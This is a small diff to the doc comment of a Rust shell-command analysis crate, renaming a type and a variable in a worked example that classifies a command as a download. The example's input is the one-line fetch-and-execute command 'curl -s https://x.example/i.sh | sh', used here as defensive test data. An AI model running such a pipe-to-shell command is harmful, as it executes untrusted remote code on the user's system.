@@ -13,10 +13,10 @@
 //!
 //! # Worked example
 //! ```
-//! use hearken_shell::{Act, Place, read};
+//! use hearken_shell::{Act, Folders, read};
 //!
-//! let reading = read("curl -s https://x.example/i.sh | sh", &Place::default());
-//! let acts: Vec<Act> = reading.findings.iter().map(|finding| finding.act).collect();
+//! let report = read("curl -s https://x.example/i.sh | sh", &Folders::default());
+//! let acts: Vec<Act> = report.findings.iter().map(|finding| finding.act).collect();
 //! assert_eq!(acts, [Act::Download, Act::Downloaded]);
 //! ```
 //!
